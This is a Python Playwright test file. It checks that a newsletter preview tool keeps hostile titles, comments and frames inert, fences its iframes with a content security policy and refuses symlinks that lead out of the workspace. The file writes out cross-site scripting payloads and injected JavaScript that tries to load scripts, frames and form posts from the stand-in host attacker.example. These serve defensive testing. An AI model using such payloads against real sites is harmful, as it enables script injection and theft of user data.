"""Hostile words, mails and files: they stay text, in their frame, in the workspace."""

import os
import re
from pathlib import Path

import pytest
from playwright.sync_api import Request, expect

from browsing import Chromium, View
from preview_making import Running, previewed, sample_workspace

ISSUE = "2025-12"
HOSTILE = '</title><script>parent.hacked=1;hacked=1</script><img src=x onerror=\\"top.hacked=1\\">{{ 7*7 }}'


def spoilt(root: Path) -> Path:
    """The sample workspace with a script in the subject of the issue and in the title of a news item."""
    workspace = sample_workspace(root / "workspace")
    issue = workspace / "issues" / f"{ISSUE}.toml"
    text = issue.read_text(encoding="utf-8")
    issue.write_text(text.replace("Protecting youth, rebuilding trust", HOSTILE), encoding="utf-8")
    item = workspace / "news" / "2025-12-09-journee-tacmes" / "en.md"
    lines = item.read_text(encoding="utf-8").splitlines()
    place = next(number for number, line in enumerate(lines) if line.startswith("title"))
    lines[place] = f'title = "{HOSTILE}"'
    item.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return workspace


@pytest.mark.slow
def test_a_script_in_a_title_is_text_on_the_page_and_in_the_frame(browser: Chromium, tmp_path: Path) -> None:
    with previewed(spoilt(tmp_path)) as preview, browser.shown(preview.issue(), View()) as page:
        expect(page.locator('[data-frame="en"]').locator("xpath=..").locator(".subject")).to_contain_text("<script>")
        frame = page.frame_locator('[data-frame="en"] iframe:not(.coming)')
        expect(frame.locator("body")).to_contain_text("<script>parent.hacked")
        page.keyboard.press("s")
        expect(page.locator("pre.source").nth(1)).to_contain_text("&lt;script&gt;")
        page.goto(preview.address)
        expect(page.locator(".issues")).to_be_visible()
        assert page.evaluate("window.hacked") is None


@pytest.mark.slow
def test_a_script_in_a_comment_is_text(browser: Chromium, preview: Running) -> None:
    with browser.shown(preview.issue(), View()) as page:
        page.get_by_label("What you would say").fill("<script>hacked=1</script><img src=x onerror=hacked=1>")
        page.get_by_label("Your name").fill('"><svg onload=hacked=1>')
        page.get_by_role("button", name="Leave the comment").click()
        expect(page.locator(".weight-comment.remark")).to_contain_text("<script>hacked=1</script>")
        assert page.evaluate("window.hacked") is None


@pytest.mark.slow
def test_nothing_in_a_frame_runs_leads_out_or_sends(browser: Chromium, still: Running) -> None:
    with browser.shown(still.issue(), View()) as page:
        asked: list[Request] = []
        page.on("request", lambda request: asked.append(request))  # noqa: PLW0108 -- Playwright marks the function it is given
        page.evaluate(
            """() => {
              const inside = document.querySelector('iframe').contentDocument
              const add = (name, fields) => Object.assign(inside.body.appendChild(inside.createElement(name)), fields)
              add('script', {textContent: 'parent.hacked = 1'})
              add('script', {src: 'https://attacker.example/a.js'})
              add('iframe', {src: 'https://attacker.example/b'})
              add('img', {src: 'x:', onerror: null}).setAttribute('onerror', 'parent.hacked = 1')
              add('link', {rel: 'stylesheet', href: 'https://attacker.example/c.css'})
              add('object', {data: 'https://attacker.example/d'})
              const form = add('form', {action: 'https://attacker.example/e', method: 'post', target: '_top'})
              try { form.submit() } catch {}
              add('a', {href: 'https://attacker.example/f', target: '_top'}).click()
              add('a', {href: 'javascript:parent.hacked=1'}).click()
              add('meta', {httpEquiv: 'refresh', content: '0;url=https://attacker.example/g'})
            }"""
        )
        page.wait_for_timeout(500)
        assert page.url == still.issue()
        assert page.evaluate("window.hacked") is None
        gone_out = [request.url for request in asked if "attacker" in request.url and request.failure != "csp"]
        assert gone_out == []


@pytest.mark.slow
def test_a_frame_opened_by_itself_is_as_fenced(browser: Chromium, still: Running) -> None:
    address = f"{still.address}issue/{ISSUE}/frame/fr"
    with browser.shown(address, View()) as page:
        expect(page.locator("h1").first).to_be_visible()
    answer = still.ask(f"issue/{ISSUE}/frame/fr")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert policy.endswith("sandbox allow-same-origin")
    assert "allow-scripts" not in policy


def picture_of(preview: Running) -> str:
    names = re.findall(rf"/issue/{ISSUE}/picture/([0-9a-z.]+)", preview.ask(f"issue/{ISSUE}/frame/fr").body)
    assert names
    return names[0]


@pytest.mark.slow
def test_no_other_site_can_show_read_or_change_the_preview(browser: Chromium, still: Running, tmp_path: Path) -> None:
    page_of_attacker = tmp_path / "attacker.html"
    page_of_attacker.write_text(
        f"""<!doctype html><title>x</title><iframe id=f src="{still.issue()}"></iframe><script>
        window.said = []
        fetch("{still.issue()}").then(a => said.push(a.type), () => said.push("refused"))
        fetch("{still.issue()}/approve", {{method: "POST", mode: "no-cors", body: "name=x"}}).catch(() => 0)
        const image = new Image()
        image.onload = () => said.push("picture")
        image.src = "{still.address}issue/{ISSUE}/picture/{picture_of(still)}"
        </script>""",
        encoding="utf-8",
    )
    with browser.shown(page_of_attacker, View()) as page:
        page.wait_for_timeout(1500)
        assert page.evaluate("said") == ["refused"]
        frame = page.locator("#f").element_handle()
        assert frame
        shown = frame.content_frame()
        assert shown is None or "Protéger" not in shown.content()


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="this system has no symbolic links")
@pytest.mark.parametrize(
    "name", ["news/2025-12-09-journee-tacmes/fr.md", "issues/2026-01.toml", "templates/bulletin/x"]
)
def test_a_link_out_of_the_workspace_is_named_and_not_read(tmp_path: Path, name: str) -> None:
    secret = tmp_path / "secret"
    secret.write_text("the word of the day is heron\n", encoding="utf-8")
    workspace = sample_workspace(tmp_path / "workspace")
    (workspace / name).unlink(missing_ok=True)
    (workspace / name).symlink_to(secret)
    with previewed(workspace) as preview:
        for path in ("", f"issue/{ISSUE}", f"issue/{ISSUE}/frame/fr"):
            answer = preview.ask(path)
            assert name in answer.body
            assert "a link to a place outside the workspace" in answer.body
            assert "heron" not in answer.body


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="this system has no symbolic links")
def test_folders_that_a_sync_service_keeps_elsewhere_are_read(tmp_path: Path) -> None:
    workspace = sample_workspace(tmp_path / "workspace")
    (workspace / "news").rename(tmp_path / "synced")
    (workspace / "news").symlink_to(tmp_path / "synced", target_is_directory=True)
    with previewed(workspace) as preview:
        assert preview.ask(f"issue/{ISSUE}").status == 200
